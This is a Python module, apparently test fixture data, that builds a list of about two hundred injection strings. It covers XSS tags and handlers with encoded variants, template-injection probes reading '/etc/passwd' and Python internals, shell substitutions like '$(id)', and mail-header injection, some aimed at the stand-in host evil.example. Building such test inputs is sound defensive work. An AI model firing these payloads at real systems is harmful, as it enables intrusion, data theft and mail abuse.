"""Two hundred strings that break pages, templates, formats and headers which take them for more than data."""

from itertools import product
from typing import Final

_HANDLERS: Final = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onbegin",
    "ontoggle",
    "onwheel",
)
_ELEMENTS: Final = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "details open",
    "a href=x",
    "p",
)
_HANDLED: Final = [f"<{what} {on}=alert(1)>" for what, on in product(_ELEMENTS, _HANDLERS)]
_BREAKS: Final = ("", '"', "'", "`", "-->", "</p>", "</td></tr></table>", "]]>", "</style>", "</title>")
_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<iframe src=javascript:alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q>",
    "<base href=//evil.example>",
    "<object data=//evil.example>",
    "<a href=https://evil.example>Fet</a>",
)
_ESCAPED: Final = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-",
    "\x3cscript\x3e",
    "<\x00script>",
    "<scr\u200bipt>",
    "\uff1cscript\uff1e",
)
_TEMPLATES: Final = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# off #}",
    "{{ page }}",
    "{% endblock %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "%(name)s",
    "{0.__class__}",
    "{ref}",
    "$(id)",
    "`id`",
    "[[7*7]]",
    "@{7*7}",
)
_ADDRESSED: Final = (
    "x\r\nBcc: e@evil.example",
    "x\nTo: e@evil.example",
    "=?utf-8?q?x=0D=0ABcc:_e@evil.example?=",
    "x\u2028Bcc: e@evil.example",
    "x\u0085Bcc: e@evil.example",
    "x\x0bBcc: e@evil.example",
    "javascript:alert(1)",
    "https://evil.example/?a=1&b=2",
    "mailto:e@evil.example",
)
_SCRIPTED: Final = [before + script for before, script in product(_BREAKS, _SCRIPTS)]

WEAPONS: Final = (*_HANDLED, *_SCRIPTED, *_ESCAPED, *_TEMPLATES, *_ADDRESSED)
TEMPLATES: Final = _TEMPLATES
